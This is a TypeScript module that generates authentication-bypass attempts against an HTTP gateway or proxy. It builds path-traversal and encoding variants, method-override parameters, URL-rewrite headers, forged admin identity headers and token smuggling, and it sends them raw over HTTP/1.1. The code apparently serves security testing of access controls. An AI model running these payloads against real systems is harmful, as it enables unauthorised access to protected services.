import { request } from 'node:http'
import { text } from 'node:stream/consumers'
import type { Sent } from './ways.ts'

/** A path that anybody may ask for, to begin a trick with. */
const open = '/v1/auth:signIn'

/** The ways to write a path differently that have got past a proxy somewhere before. */
export const tricks = (path: string): string[] => [
  path.replaceAll('/', '//'),
  path.replace('/', '/./'),
  `${open}/../..${path}`,
  `${open}/%2e%2e/%2e%2e${path}`,
  `${open}/..;/..;${path}`,
  `${open}%2f..%2f..${path}`,
  `/grpc.health.v1.Health/..${path}`,
  `/grpc.health.v1.Health%2f..${path}`,
  `/healthz/..${path}`,
  `/.well-known/jwks.json/../..${path}`,
  path.replace(/\/(?=[^/]*$)/, '%2f'),
  path.replace(/\/(?=[^/]*$)/, '%2F'),
  path.replace(/\/(?=[^/]*$)/, '%5c'),
  path.replace(/\/(?=[^/]*$)/, '%252f'),
  path.replace(/\/(?=[^/]*$)/, '\\'),
  path.toUpperCase(),
  path.replace(/[a-z]/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  `${path}/`,
  `${path}/.`,
  `${path};x=y`,
  `${path}%00`,
  `${path}%20`,
  `${path}.json`,
  `${path}%3faccess_token=x`,
  `http://127.0.0.1${path}`,
]

/** Words beside the path that some proxies take for another path or method. */
export const overrides = (path: string, token: string): { query: string; headers: Sent }[] => [
  ...['access_token', 'token', 'jwt', 'authorization'].map((name) => ({
    query: `?${name}=${token}`,
    headers: {},
  })),
  { query: `?$method=GET&_method=GET&x-http-method-override=GET`, headers: {} },
  ...['x-original-url', 'x-rewrite-url', 'x-envoy-original-path', 'x-forwarded-path', 'x-forwarded-uri'].map(
    (name) => ({ query: '', headers: { [name]: open } }),
  ),
  ...['x-http-method-override', 'x-http-method', 'x-method-override'].flatMap((name) =>
    ['GET', 'POST'].map((verb) => ({ query: '', headers: { [name]: verb } })),
  ),
  { query: '', headers: { cookie: `authorization=Bearer ${token}; access_token=${token}` } },
  {
    query: '',
    headers: { 'x-user-id': 'admin', 'x-user-role': 'ADMIN', 'x-jwt-payload': '{"role":"ADMIN"}' },
  },
  { query: '', headers: { 'x-forwarded-authorization': `Bearer ${token}` } },
  { query: '', headers: { 'proxy-authorization': `Bearer ${token}` } },
  { query: '', headers: { 'x-envoy-internal': 'true', 'x-forwarded-for': '127.0.0.1' } },
]

/** One request over HTTP/1.1 with the path as it stands, which `fetch` would tidy up. */
export const rawRequest = (target: string, method: string, path: string, headers: Sent) =>
  new Promise<{ status: number; text: string }>((resolve, reject) => {
    const [host, port] = target.split(':')
    const sent = request({
      host,
      port,
      method,
      path,
      headers: { 'content-type': 'application/json', ...headers },
    })
    sent.on('response', (response) => {
      text(response).then((body) => resolve({ status: response.statusCode!, text: body }), reject)
    })
    sent.on('error', reject)
    sent.end(method === 'GET' || method === 'DELETE' ? undefined : '{}')
  })
